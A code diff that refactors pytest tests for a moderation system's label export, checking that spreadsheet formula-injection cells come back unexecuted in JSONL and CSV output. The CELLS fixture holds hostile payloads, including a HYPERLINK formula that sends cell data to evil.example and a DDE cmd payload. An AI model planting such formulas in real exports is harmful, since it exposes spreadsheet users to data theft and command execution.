@@ -15,13 +15,13 @@ from pathlib import Path
 import pytest
 from pyarrow import parquet
 
-from moderation.models import Case, User
-from moderation.models.decisions import Verdict
-from moderation.operations.cases import claims, review
+from moderation.models import User
 from moderation.operations.labels import export_write
 from moderation.operations.posts.incoming_post import IncomingAuthor
 from moderation.queries.labels.labels import LabelFilter
+from tests.moderation.conftest import Case_, decide
 
+Later = Callable[[float], datetime]
 CELLS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -40,19 +40,14 @@ RUN_BY_SPREADSHEETS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 
 
 @pytest.fixture
-def decided(open_case: Callable[..., Case], moderator: User, later: Callable[[float], datetime]) -> None:
+def decided(open_case: Case_, moderator: User, later: Later) -> None:
     for number, cell in enumerate(CELLS):
         author = IncomingAuthor(external_id=cell[:150], display_name=cell)
         case = open_case(text=f"{cell} number {number}", author=author)
-        claims.claim(case_id=case.pk, moderator=moderator, at=later(2))
-        review.decide(
-            case_id=case.pk, case_version=1, moderator=moderator, verdict=Verdict.SPAM, at=later(3 + number)
-        )
+        decide(case, moderator, at=later(3 + number))
 
 
-def test_hostile_cells_come_back_letter_by_letter(
-    decided: None, tmp_path: Path, later: Callable[[float], datetime]
-) -> None:
+def test_hostile_cells_come_back_letter_by_letter(decided: None, tmp_path: Path, later: Later) -> None:
     out = tmp_path / "labels.jsonl"
     manifest = export_write.write(out=out, wanted=LabelFilter(), at=later(99))
 
@@ -66,9 +61,7 @@ def test_hostile_cells_come_back_letter_by_letter(
     assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
 
 
-def test_no_cell_of_a_csv_runs_and_each_comes_back(
-    decided: None, tmp_path: Path, later: Callable[[float], datetime]
-) -> None:
+def test_no_cell_of_a_csv_runs_and_each_comes_back(decided: None, tmp_path: Path, later: Later) -> None:
     out = tmp_path / "labels.csv"
     export_write.write(out=out, wanted=LabelFilter(), at=later(99), form="csv")
 
